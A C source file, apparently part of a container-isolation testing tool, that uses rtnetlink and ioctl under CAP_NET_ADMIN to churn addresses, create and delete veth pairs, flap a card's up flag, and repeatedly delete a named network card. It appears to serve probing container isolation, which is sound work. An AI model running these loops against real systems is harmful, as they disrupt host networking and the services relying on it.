/* What CAP_NET_ADMIN lets a container do to its own cards: rtnetlink(7), as `ip address` and `ip link` speak it. */
#include <linux/if_addr.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "attack.h"

struct message {
  struct nlmsghdr head;
  uint8_t body[512];
};

static struct message begin(int type, int flags, const void *body, size_t length) {
  struct message m = {.head = {NLMSG_LENGTH(length), type, NLM_F_REQUEST | NLM_F_ACK | flags, 0, 0}};
  memcpy(m.body, body, length);
  return m;
}

/* Appends an attribute; gives it, for what is nested in it. */
static struct rtattr *put(struct message *m, int type, const void *data, size_t length) {
  struct rtattr *attribute = (struct rtattr *)((uint8_t *)m + NLMSG_ALIGN(m->head.nlmsg_len));
  attribute->rta_type = type;
  attribute->rta_len = RTA_LENGTH(length);
  if (length > 0) memcpy(RTA_DATA(attribute), data, length);
  m->head.nlmsg_len = NLMSG_ALIGN(m->head.nlmsg_len) + RTA_ALIGN(attribute->rta_len);
  return attribute;
}

static void enclose(struct message *m, struct rtattr *nest) {
  nest->rta_len = (uint8_t *)m + m->head.nlmsg_len - (uint8_t *)nest;
}

/* True when the kernel has done it. */
static bool ask(const struct message *m) {
  static int route = -1;
  if (route < 0) route = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  struct {
    struct nlmsghdr head;
    struct nlmsgerr error;
    uint8_t rest[4096];
  } answer;
  if (send(route, m, m->head.nlmsg_len, 0) < 0 || recv(route, &answer, sizeof answer, 0) < 0) return false;
  return answer.head.nlmsg_type == NLMSG_ERROR && answer.error.error == 0;
}

static bool address(int type, int card, unsigned n, int family) {
  struct ifaddrmsg body = {.ifa_family = family, .ifa_prefixlen = family == AF_INET ? 32 : 128, .ifa_index = card};
  uint8_t v4[4] = {198, 18, n >> 8, n}, v6[16] = {0xfd, 0x99, [14] = n >> 8, [15] = n};
  struct message m = begin(type, type == RTM_NEWADDR ? NLM_F_CREATE : 0, &body, sizeof body);
  size_t length = family == AF_INET ? sizeof v4 : sizeof v6;
  put(&m, IFA_LOCAL, family == AF_INET ? v4 : v6, length);
  put(&m, IFA_ADDRESS, family == AF_INET ? v4 : v6, length);
  return ask(&m);
}

/* A thousand addresses of both families on the card, and away with them. */
unsigned long churn_addresses(char **arguments) {
  int card = card_of(arguments[0]).index;
  unsigned long struck = 0;
  while (attacking())
    for (int type = RTM_NEWADDR; type <= RTM_DELADDR; type++)
      for (unsigned n = 0; n < 1000 && attacking(); n++) struck += address(type, card, n, n % 2 ? AF_INET : AF_INET6);
  for (unsigned n = 0; n < 1000; n++) address(RTM_DELADDR, card, n, n % 2 ? AF_INET : AF_INET6);
  return struck;
}

static struct message about_link(int type, int flags, const char *name, bool up) {
  struct ifinfomsg body = {.ifi_family = AF_UNSPEC, .ifi_flags = up ? IFF_UP : 0, .ifi_change = up ? IFF_UP : 0};
  struct message m = begin(type, flags, &body, sizeof body);
  put(&m, IFLA_IFNAME, name, strlen(name) + 1);
  return m;
}

static bool delete_link(const char *name) {
  struct message m = about_link(RTM_DELLINK, 0, name, false);
  return ask(&m);
}

/* `ip link add NAME type veth`, and up: before it has its peer the kernel would not set it up. */
static bool create_pair(const char *name) {
  struct message pair = about_link(RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, name, false);
  struct rtattr *info = put(&pair, IFLA_LINKINFO, NULL, 0);
  put(&pair, IFLA_INFO_KIND, "veth", 4);
  enclose(&pair, info);
  struct message up = about_link(RTM_NEWLINK, 0, name, true);
  return ask(&pair) && ask(&up);
}

unsigned long churn_links(char **arguments) {
  (void)arguments;
  enum { AT_ONCE = 32 };
  unsigned long struck = 0;
  while (attacking()) {
    char name[IFNAMSIZ];
    for (int i = 0; i < AT_ONCE && attacking(); i++) sprintf(name, "churn%d", i), struck += create_pair(name);
    for (int i = 0; i < AT_ONCE; i++) sprintf(name, "churn%d", i), struck += delete_link(name);
  }
  return struck;
}

/* Down and up: the other end, in the network's namespace, loses its carrier and has it again. */
unsigned long flap_card(char **arguments) {
  struct ifreq request = {0};
  strncpy(request.ifr_name, arguments[0], IFNAMSIZ - 1);
  int any = socket(AF_INET, SOCK_DGRAM, 0);
  if (ioctl(any, SIOCGIFFLAGS, &request)) fail(arguments[0]);
  unsigned long struck = 0;
  while (attacking()) {
    request.ifr_flags ^= IFF_UP;
    struck += ioctl(any, SIOCSIFFLAGS, &request) == 0;
  }
  request.ifr_flags |= IFF_UP;
  ioctl(any, SIOCSIFFLAGS, &request);
  return struck;
}

/* Whenever it is there; who heals it gets the next one. */
unsigned long delete_card(char **arguments) {
  unsigned long struck = 0;
  while (attacking()) {
    if (delete_link(arguments[0])) struck++;
    else usleep(1000);
  }
  return struck;
}
